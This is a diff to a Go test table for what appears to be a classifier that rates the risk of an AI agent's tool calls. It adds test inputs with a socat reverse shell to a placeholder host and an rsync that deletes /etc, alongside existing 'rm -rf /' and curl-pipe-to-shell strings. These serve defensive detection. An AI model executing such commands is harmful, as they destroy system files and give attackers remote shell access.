@@ -47,6 +47,8 @@ func TestFields(t *testing.T) {
 		"other tool": {event.ActionEvent{ToolName: "mcp", ToolCall: event.ToolCall{Name: "mcp", Arguments: `{"a":[{"cmd":"rm -rf /"}],"b":1}`}}, "HIGH", "HIGH"},
 		"prose":      {event.ActionEvent{ToolCall: event.ToolCall{Arguments: arguments("text", "don't curl $X (or rm -rf \"$Y\") if you can't")}}, "HIGH", "LOW"},
 		"apart":      {event.ActionEvent{ToolCall: event.ToolCall{Arguments: `{"a":"curl x","b":"| sh"}`}}, "HIGH", "LOW"},
+		"connection": {event.ActionEvent{ToolName: "mcp", ToolCall: event.ToolCall{Name: "mcp", Arguments: arguments("cmd", "socat TCP:x:1 EXEC:/bin/sh")}}, "LOW", "HIGH"},
+		"mirror":     {event.ActionEvent{ToolName: "mcp", ToolCall: event.ToolCall{Name: "mcp", Arguments: arguments("cmd", "rsync -a --delete empty/ /etc")}}, "LOW", "HIGH"},
 		"not JSON":   {event.ActionEvent{ToolCall: event.ToolCall{Arguments: `rm -rf /etc`}}, "HIGH", "HIGH"},
 		"the name":   {event.ActionEvent{ToolName: strings.Repeat("x", 100_000), ToolCall: event.ToolCall{Arguments: `{"c":"rm -rf /"}`}}, "HIGH", "HIGH"},
 		"what runs":  {event.ActionEvent{Action: &event.TerminalAction{Command: "rm -rf /"}, ToolCall: event.ToolCall{Arguments: `{"command":"ls"}`}}, "HIGH", "HIGH"},
